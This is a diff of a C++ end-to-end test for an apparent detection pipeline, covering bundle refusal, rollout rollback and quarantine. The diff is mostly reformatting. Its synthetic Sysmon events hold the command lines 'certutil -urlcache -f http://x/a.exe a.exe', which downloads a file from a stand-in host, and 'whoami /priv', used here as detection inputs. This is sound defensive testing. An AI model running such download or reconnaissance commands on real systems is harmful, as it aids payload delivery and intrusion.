@@ -17,7 +17,7 @@ namespace fs = std::filesystem;
 using namespace std::chrono_literals;
 
 const std::string kBundles = VIGIL_SOURCE_DIR "/tests/data/bundles/";
-constexpr char kWhoamiPriv[] = "1fc0eb53-c7e0-4dbf-8eb6-dddb8f1a094e";     // default pack
+constexpr char kWhoamiPriv[] = "1fc0eb53-c7e0-4dbf-8eb6-dddb8f1a094e";    // default pack
 constexpr char kCertutilPack[] = "600b4d6f-49fb-4e4b-a78d-6352d47d7b7f";  // default pack
 constexpr char kCertutilGood[] = "6f0a2b7e-2d0d-4a4c-8d1b-5e2f3a1c9d22";  // tests/data/bundles/good
 
@@ -27,10 +27,14 @@ std::vector<std::string> events(const std::string& prefix, int n) {
   std::vector<std::string> out;
   for (int i = 0; i < n; ++i) {
     const std::string id = prefix + std::to_string(i);
-    out.push_back(R"({"@timestamp":"2026-11-24T17:00:00.000Z","Hostname":"WS-1","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"test_id":")" +
-                  id + R"(w","ParentImage":"C:\\Windows\\System32\\cmd.exe","Image":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami /priv"})");
-    out.push_back(R"({"@timestamp":"2026-11-24T17:00:00.000Z","Hostname":"WS-1","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"test_id":")" +
-                  id + R"(c","ParentImage":"C:\\Windows\\System32\\cmd.exe","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://x/a.exe a.exe"})");
+    out.push_back(
+        R"({"@timestamp":"2026-11-24T17:00:00.000Z","Hostname":"WS-1","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"test_id":")" +
+        id +
+        R"(w","ParentImage":"C:\\Windows\\System32\\cmd.exe","Image":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami /priv"})");
+    out.push_back(
+        R"({"@timestamp":"2026-11-24T17:00:00.000Z","Hostname":"WS-1","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"test_id":")" +
+        id +
+        R"(c","ParentImage":"C:\\Windows\\System32\\cmd.exe","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://x/a.exe a.exe"})");
   }
   return out;
 }
@@ -61,8 +65,8 @@ class ContentTest : public e2e::VigildFixture {
   }
   void write_rollout_config(const std::string& policy) {
     config_file();
-    std::ofstream(dir_ / "vigild.yml", std::ios::app) << "rollout:\n  policy: " << policy
-                                                      << "\n  stage_duration: 1s\n  crash_limit: 3\n";
+    std::ofstream(dir_ / "vigild.yml", std::ios::app)
+        << "rollout:\n  policy: " << policy << "\n  stage_duration: 1s\n  crash_limit: 3\n";
   }
 };
 
@@ -72,7 +76,9 @@ TEST_F(ContentTest, TheTwentyFirstFieldIsRefusedAndThePipelineKeepsItsBundle) {
   std::unique_ptr<test::Subprocess> vigild;
   const uint16_t port = start(vigild, {"--kafka-brokers", broker.bootstrap(), "--workers", "2"});
   ASSERT_NE(port, 0) << log(1);
-  ASSERT_TRUE(wait_for([&] { return test::http_get("127.0.0.1", port, "/readyz").status == 200; }, 30s)) << log(1);
+  ASSERT_TRUE(
+      wait_for([&] { return test::http_get("127.0.0.1", port, "/readyz").status == 200; }, 30s))
+      << log(1);
   kcat_produce(broker.bootstrap(), events("a", 20));
 
   int rc = 0;
@@ -95,7 +101,9 @@ TEST_F(ContentTest, TheTwentyFirstFieldIsRefusedAndThePipelineKeepsItsBundle) {
   EXPECT_NE(list.find(R"("status":"refused")"), std::string::npos) << list;
 
   // A reader may look, not push.
-  out = cli("bundle push " + kBundles + "good --server http://127.0.0.1:" + std::to_string(port) + " --token " + kReaderToken, &rc);
+  out = cli("bundle push " + kBundles + "good --server http://127.0.0.1:" + std::to_string(port) +
+                " --token " + kReaderToken,
+            &rc);
   EXPECT_EQ(rc, 1);
   EXPECT_NE(out.find("HTTP 403"), std::string::npos) << out;
 
@@ -126,7 +134,8 @@ TEST_F(ContentTest, TheTwentyFirstFieldIsRefusedAndThePipelineKeepsItsBundle) {
   EXPECT_EQ(rc, 0) << out;
   const size_t row = out.find(kWhoamiPriv);
   ASSERT_NE(row, std::string::npos) << out;
-  EXPECT_NE(out.substr(row, out.find('\n', row) - row).find(" 40 "), std::string::npos) << out;  // 40 matches
+  EXPECT_NE(out.substr(row, out.find('\n', row) - row).find(" 40 "), std::string::npos)
+      << out;                                               // 40 matches
   out = cli("bundle dry-run 2 " + server_args(port), &rc);  // the refused one
   EXPECT_EQ(rc, 1);
   EXPECT_NE(out.find("HTTP 409"), std::string::npos) << out;
@@ -154,8 +163,10 @@ TEST_F(ContentTest, ACrashDuringARolloutAndACrashLoopComeBackOnTheLastKnownGood)
   ASSERT_NE(port, 0) << log(2);
   auto st = rollout(port);
   EXPECT_EQ(st["active"].GetUint64(), 1u) << log(2);
-  EXPECT_NE(std::string(st["notice"].GetString()).find("ended abnormally during its rollout"), std::string::npos);
-  EXPECT_NE(test::http_get("127.0.0.1", port, "/healthz").body.find("rolled back"), std::string::npos);
+  EXPECT_NE(std::string(st["notice"].GetString()).find("ended abnormally during its rollout"),
+            std::string::npos);
+  EXPECT_NE(test::http_get("127.0.0.1", port, "/healthz").body.find("rolled back"),
+            std::string::npos);
 
   // 2. Rolled out again (without the fault) it completes; the process stops cleanly.
   out = cli("rollout start 2 --reason retry " + server_args(port), &rc);
@@ -177,23 +188,30 @@ TEST_F(ContentTest, ACrashDuringARolloutAndACrashLoopComeBackOnTheLastKnownGood)
   ASSERT_NE(port, 0) << log(runs_);
   st = rollout(port);
   EXPECT_EQ(st["active"].GetUint64(), 1u);
-  EXPECT_NE(std::string(st["notice"].GetString()).find("quarantined"), std::string::npos) << log(runs_);
+  EXPECT_NE(std::string(st["notice"].GetString()).find("quarantined"), std::string::npos)
+      << log(runs_);
   EXPECT_NE(log(runs_).find("bundle 2 quarantined"), std::string::npos) << log(runs_);
   const std::string health = test::http_get("127.0.0.1", port, "/healthz").body;
   EXPECT_NE(health.find("quarantined"), std::string::npos) << health;
-  EXPECT_NE(api_get(port, "/api/v1/bundles/2").body.find(R"("status":"quarantined")"), std::string::npos);
+  EXPECT_NE(api_get(port, "/api/v1/bundles/2").body.find(R"("status":"quarantined")"),
+            std::string::npos);
   out = cli("rollout start 2 " + server_args(port), &rc);
   EXPECT_EQ(rc, 1) << out;
   EXPECT_NE(out.find("quarantined"), std::string::npos) << out;
 
   // The pipeline runs on the known good bundle and detects with it.
-  ASSERT_TRUE(wait_for([&] { return test::http_get("127.0.0.1", port, "/readyz").status == 200; }, 30s)) << log(runs_);
+  ASSERT_TRUE(
+      wait_for([&] { return test::http_get("127.0.0.1", port, "/readyz").status == 200; }, 30s))
+      << log(runs_);
   kcat_produce(broker.bootstrap(), events("q", 5));
   const auto expected = default_pack_alerts("q", 5);
-  ASSERT_TRUE(wait_for([&] {
-    const auto got = alerts(port);
-    return std::set<AlertKey>(got.begin(), got.end()) == expected;
-  }, 30s)) << log(runs_);
+  ASSERT_TRUE(wait_for(
+      [&] {
+        const auto got = alerts(port);
+        return std::set<AlertKey>(got.begin(), got.end()) == expected;
+      },
+      30s))
+      << log(runs_);
   out = cli("rollout audit " + server_args(port), &rc);
   EXPECT_EQ(rc, 0);
   EXPECT_NE(out.find("\"quarantined\""), std::string::npos) << out;
